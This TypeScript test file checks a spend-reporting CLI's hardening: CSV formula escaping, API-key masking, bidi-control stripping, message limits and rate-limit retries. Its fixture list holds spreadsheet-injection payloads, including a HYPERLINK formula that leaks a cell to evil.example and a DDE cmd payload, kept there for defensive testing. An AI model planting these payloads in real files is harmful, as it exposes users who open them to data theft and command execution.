// The fifth hardening round: what leaves the machine (CSV a spreadsheet opens, files made to be
// shared, messages) and what waits (text paths linear in their input, locks that end with the run).
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { afterEachTest } from '../support/cleanup.js';
import { againstHostile, balanceBody } from './hostile-gateway.js';
import { KEY } from '../helpers.js';

const NOW = Date.UTC(2026, 10, 21, 12);
const { gateways, dir } = afterEachTest();
const DAY = 86_400;
const TODAY = Date.UTC(2026, 10, 21) / 1000;

const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

/** A gateway whose model names are formula text (and one echoes the caller's key), with one negative amount. */
function formulaGateway() {
  const series = Array.from({ length: 70 }, (_, i) => `{"t": ${TODAY - (69 - i) * DAY}, "cost": "2.00"}`).join(', ');
  const models = [...FORMULAS.map((m, i) => ({ model: m, cost: `${i + 1}.25`, requests: 2 })), { model: `leak ${KEY} here`, cost: '0.50', requests: 1 }, { model: 'refund', cost: '-1.5', requests: 1 }];
  return againstHostile(
    {
      name: 'formulas',
      routes: {
        '/v1/open/balance': { body: balanceBody() },
        '/v1/open/usage': { body: `{"scope": "key", "buckets": [${series}], "totals": {"cost": "140.00"}}` },
        '/v1/open/usage/models': { body: JSON.stringify({ scope: 'key', models }) },
      },
    },
    NOW,
    gateways,
  );
}

/** Every cell of an RFC 4180 text (quotes undone), for looking at what a spreadsheet would be given. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') cells.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') cells.push(cell), (cell = ''), i++;
    else cell += c;
  }
  return cells;
}

const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('CSV is safe to open', () => {
  it.each([
    ['usage --by model', ['usage', '--by', 'model', '--since', '7d', '--csv']],
    ['usage --by model --bucket day', ['usage', '--by', 'model', '--bucket', 'day', '--since', '3d', '--csv']],
    ['usage --compare --by model', ['usage', '--compare', 'previous', '--by', 'model', '--since', '7d', '--csv']],
    ['export', ['export', '--since', '3d', '--csv']],
  ])('%s: no cell a spreadsheet runs as a formula; amounts (a refund too) untouched', async (_name, argv) => {
    const { run } = await formulaGateway();
    const result = await run(argv);
    expect(result.code, result.stderr).toBe(0);
    const cells = csvCells(result.stdout);
    expect(cells.filter(isFormula)).toEqual([]);
    for (const formula of FORMULAS.slice(0, 4)) expect(cells).toContain(`'${formula}`);
    if (!argv.includes('--compare')) expect(cells).toContain(argv[0] === 'export' ? '-1.5' : '-1.5');
  });

  it('the ledger file too, and a key the gateway echoes in a model name is masked in it', async () => {
    const { run } = await formulaGateway();
    const file = `${dir()}/ledger.csv`;
    const result = await run(['export', '--since', '3d', '--csv', '--append', file]);
    expect(result.code, result.stderr).toBe(0);
    const text = readFileSync(file, 'utf8');
    expect(csvCells(text).filter(isFormula)).toEqual([]);
    expect(text).not.toContain(KEY);
    expect(text).toContain(`leak ${KEY.slice(0, 8)}…${KEY.slice(-4)} here`);
    const nd = `${dir()}/ledger.ndjson`;
    expect((await run(['export', '--since', '3d', '--ndjson', '--append', nd])).code).toBe(0);
    const lines = readFileSync(nd, 'utf8');
    expect(lines).not.toContain(KEY);
    // NDJSON keeps text exactly as sent (but the key).
    expect(lines).toContain(JSON.stringify(FORMULAS[0]));
  });
});

describe('files made to be shared', () => {
  /** A gateway whose model names end in a right-to-left override, echo the key, or are all refunds. */
  function hostileNames(models: { model: string; cost: string }[]) {
    const series = Array.from({ length: 100 }, (_, i) => `{"t": ${TODAY - (99 - i) * DAY}, "cost": "${models[0]!.cost}"}`).join(', ');
    return againstHostile(
      {
        name: 'names',
        routes: {
          '/v1/open/balance': { body: balanceBody() },
          '/v1/open/usage': { body: `{"scope": "account", "buckets": [${series}], "totals": {"cost": "1"}}` },
          '/v1/open/usage/models': { body: JSON.stringify({ scope: 'account', models: models.map((m) => ({ ...m, requests: 1 })) }) },
        },
      },
      NOW,
      gateways,
    );
  }

  it('the HTML report holds no bidirectional control and no key, whatever the model names hold', async () => {
    const { run } = await hostileNames([{ model: 'evil\u202e', cost: '87.50' }, { model: `\u2067leak ${KEY}`, cost: '1.00' }]);
    const file = `${dir()}/report.html`;
    const result = await run(['report', '--html', file]);
    expect(result.code, result.stderr).toBe(0);
    const html = readFileSync(file, 'utf8');
    expect(html).not.toMatch(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
    expect(html).not.toContain(KEY);
    expect(html).toContain('evil');
  });

  it('a chart of refunds (every amount negative) keeps every coordinate inside the chart', async () => {
    const { run } = await hostileNames([{ model: 'a', cost: '-184500000000' }, { model: 'b', cost: '-0.000001' }, { model: 'c', cost: `-41${'0'.repeat(101)}.5` }]);
    const file = `${dir()}/refunds.html`;
    const result = await run(['report', '--html', file]);
    expect(result.code, result.stderr).toBe(0);
    const html = readFileSync(file, 'utf8');
    for (const svg of html.match(/<svg[^>]*viewBox="0 0 (\d+) (\d+)"[\s\S]*?<\/svg>/g) ?? []) {
      const [, w, h] = /viewBox="0 0 (\d+) (\d+)"/.exec(svg)!.map(Number);
      for (const [, name, value] of svg.matchAll(/ (x|y|width|height|x1|x2|y1|y2)="([^"]*)"/g)) {
        const n = Number(value);
        expect(Number.isFinite(n), `${name}="${value}"`).toBe(true);
        expect(n, `${name}="${value}"`).toBeGreaterThanOrEqual(0);
        expect(n, `${name}="${value}"`).toBeLessThanOrEqual(/x|width/.test(name!) ? w! : h!);
      }
    }
  });
});

describe('every destination gets a message within its limits', () => {
  it('ntfy: at most 4,096 bytes however long the model names; Slack: sections within 3,000 characters, no entity cut', async () => {
    const { createServer } = await import('node:http');
    const { runCommand } = await import('../helpers.js');
    const got: { path: string; body: string }[] = [];
    const receiver = createServer((req, res) => {
      let body = '';
      req.on('data', (d) => (body += d));
      req.on('end', () => {
        got.push({ path: req.url!, body });
        res.writeHead(200).end();
      });
    });
    await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(receiver.address() as { port: number }).port}`;
    try {
      const long = `${'&<>'.repeat(10)}${'字'.repeat(100_000)}`;
      const series = Array.from({ length: 100 }, (_, i) => `{"t": ${TODAY - (99 - i) * DAY}, "cost": "3.00"}`).join(', ');
      const { env } = await againstHostile(
        {
          name: 'long names',
          routes: {
            '/v1/open/balance': { body: balanceBody() },
            '/v1/open/usage': { body: `{"scope": "account", "buckets": [${series}], "totals": {"cost": "1"}}` },
            '/v1/open/usage/models': { body: JSON.stringify({ scope: 'account', models: [{ model: long, cost: '2.00', requests: 1 }, { model: `b${long}`, cost: '1.00', requests: 1 }] }) },
          },
        },
        NOW,
        gateways,
      );
      const run = (argv: string[], stdin?: string) => runCommand(argv, { env, now: () => NOW, stdin });
      for (const kind of ['ntfy', 'slack']) expect((await run(['notify', 'add', kind, '--kind', kind], `${url}/${kind}\n`)).code).toBe(0);
      for (const kind of ['ntfy', 'slack']) {
        const sent = await run(['report', '--send', kind]);
        expect(sent.code, sent.stderr).toBe(0);
      }
      const ntfy = got.find((g) => g.path === '/ntfy')!;
      expect(Buffer.byteLength(ntfy.body)).toBeLessThanOrEqual(4096);
      expect(ntfy.body).toMatch(/^Spend ¥/);
      const slack = JSON.parse(got.find((g) => g.path === '/slack')!.body);
      for (const block of slack.blocks) {
        expect(block.text.text.length).toBeLessThanOrEqual(3000);
        expect(block.text.text).not.toMatch(/&[a-z]*$|&[a-z]*\u2026/);
      }
    } finally {
      receiver.closeAllConnections();
      await new Promise((resolve) => receiver.close(resolve));
    }
  });
});

describe('spend per model is one figure, read whole', () => {
  it('status and metrics add up every page and every record of a model', async () => {
    const series = Array.from({ length: 40 }, (_, i) => `{"t": ${TODAY - (39 - i) * DAY}, "cost": "1.00"}`).join(', ');
    const { run } = await againstHostile(
      {
        name: 'paged models',
        routes: {
          '/v1/open/balance': { body: balanceBody() },
          '/v1/open/usage': { body: `{"scope": "account", "buckets": [${series}], "totals": {"cost": "40.00"}}` },
          '/api/usage/token/': { status: 404, body: '{"error": {"message": "Invalid URL"}}' },
          // Two pages; "late" is split into two records, across them: together it is the largest.
          '/v1/open/usage/models': ({ url }) =>
            url.searchParams.get('cursor') === 'p2'
              ? { body: '{"scope": "key", "models": [{"model": "late", "cost": "3.00"}, {"model": "small", "cost": "0.10"}], "next_cursor": null}' }
              : { body: '{"scope": "key", "models": [{"model": "early", "cost": "4.00"}, {"model": "late", "cost": "2.50"}], "next_cursor": "p2"}' },
        },
      },
      NOW,
      gateways,
    );
    const status = await run(['status']);
    expect(status.code, status.stderr).toBe(0);
    expect(status.stdout).toMatch(/^Top models +late ¥5\.50 · early ¥4\.00 · small ¥0\.10/m);
    const metrics = await run(['metrics']);
    expect(metrics.stdout).toContain('tally_spend_today{profile="default",currency="CNY",model="late"} 5.5');
  });
});

describe('small things', () => {
  it('a window with no data says its own length in its footer (never "0 days")', async () => {
    const { run } = await againstHostile({ name: 'no data', routes: { '/v1/open/usage': { body: '{"buckets": [], "totals": {}}' } } }, NOW, gateways);
    const result = await run(['usage', '--since', '2026-07-01T00:00:00Z', '--until', '2026-10-29T00:00:00Z', '--utc-offset', '+00:00']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toMatch(/^window 2026-07-01 00:00 → 2026-10-29 00:00 .*\(120 days\)/m);
  });


  it('logs with no records says so, with no blank lines of an empty table before it', async () => {
    const { run } = await againstHostile({ name: 'empty log', routes: { '/v1/open/logs': { body: '{"data": [], "has_more": false}' } } }, NOW, gateways);
    const result = await run(['logs', '--since', '2026-11-01T00:00:00Z', '--until', '2026-11-02T00:00:00Z']);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^no records in this window\n/);
  });
});

describe('bad input is refused before the gateway is asked', () => {
  it.each([['fortnight-ish'], ['2026-13'], ['2026-11-10..2026-11-01']])('usage --compare %s: exit 2, no request', async (spec) => {
    const { run, gateway } = await againstHostile({ name: 'quiet', routes: {} }, NOW, gateways);
    const result = await run(['usage', '--compare', spec]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^tally: --compare "/);
    expect(gateway.requests).toEqual([]);
  });
});

describe('on a terminal every line fits', () => {
  it('notify add\'s success line wraps at 80 columns (at its words)', async () => {
    const { runCommand } = await import('../helpers.js');
    const result = await runCommand(['notify', 'add', 'team-alerts', '--kind', 'webhook'], { tty: true, width: 80, answers: ['https://hooks.example.com/services/T000/B000/very-long-secret-token-4f2a'], env: { TALLY_BASE_URL: 'https://gw.example', TALLY_API_KEY: KEY } });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('Added webhook destination "team-alerts"');
    for (const line of result.stdout.split('\n')) expect(line.length, line).toBeLessThanOrEqual(80);
  });
});

describe('a digest waits out a busy minute', () => {
  it('report waits for the rate limit\'s window to reopen (the Retry-After the gateway states, within --timeout) instead of leaving figures unreported', async () => {
    let refused = 0;
    const busy = (answer: () => { body: string }) => () => {
      // The first requests of the minute find the limit used up; the gateway says when it reopens.
      if (refused < 5) {
        refused++;
        return { status: 429, headers: { 'x-ratelimit-limit': '60', 'x-ratelimit-remaining': '-1', 'retry-after': '1' }, body: '{"error": {"message": "rate limit exceeded"}}' };
      }
      return answer();
    };
    const series = Array.from({ length: 120 }, (_, i) => `{"t": ${TODAY - (119 - i) * DAY}, "cost": "1.00"}`).join(', ');
    const { run } = await againstHostile(
      {
        name: 'busy minute',
        routes: {
          '/v1/open/balance': busy(() => ({ body: balanceBody() })),
          '/v1/open/usage': busy(() => ({ body: `{"scope": "account", "buckets": [${series}], "totals": {"cost": "1"}}` })),
          '/v1/open/usage/models': busy(() => ({ body: '{"scope": "account", "models": [{"model": "m", "cost": "1.00"}]}' })),
          '/api/usage/token/': { status: 404, body: '{"error": {"message": "Invalid URL"}}' },
        },
      },
      NOW,
      gateways,
    );
    const result = await run(['report', '--json']);
    expect(result.code, result.stderr).toBe(0);
    expect(refused).toBe(5);
    expect(JSON.parse(result.stdout).spend.current).toMatch(/^\d+(\.\d+)?$/);
  });

  it('a fleet waits out a busy minute too: no profile "not reported" for a window that reopens in time', async () => {
    // Each key's first five requests of the minute find its limit used up; the gateway says when it reopens.
    const refused = new Map<string, number>();
    const { gateway } = await againstHostile(
      {
        name: 'busy fleet',
        routes: {
          '/v1/open/balance': ({ headers }) => {
            const key = String(headers.authorization);
            const n = refused.get(key) ?? 0;
            if (n < 5) {
              refused.set(key, n + 1);
              return { status: 429, headers: { 'x-ratelimit-limit': '60', 'x-ratelimit-remaining': '-1', 'retry-after': '1' }, body: '{"error": {"message": "rate limit exceeded"}}' };
            }
            return { body: balanceBody() };
          },
        },
      },
      NOW,
      gateways,
    );
    const { runCommand, freshState } = await import('../helpers.js');
    const env = { TALLY_CONFIG_DIR: freshState(), TZ: 'UTC' };
    for (const [profile, key] of [['one', KEY], ['two', `${KEY}-two`]]) {
      expect((await runCommand(['--profile', profile!, 'login', '--base-url', gateway.baseUrl, '--with-token', '--no-verify'], { env, stdin: key })).code).toBe(0);
    }
    const result = await runCommand(['--all-profiles', 'balance', '--json'], { env, now: () => NOW });
    expect(result.code, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout).profiles.map((p: { ok: boolean }) => p.ok)).toEqual([true, true]);
    expect([...refused.values()]).toEqual([5, 5]);
  });
});
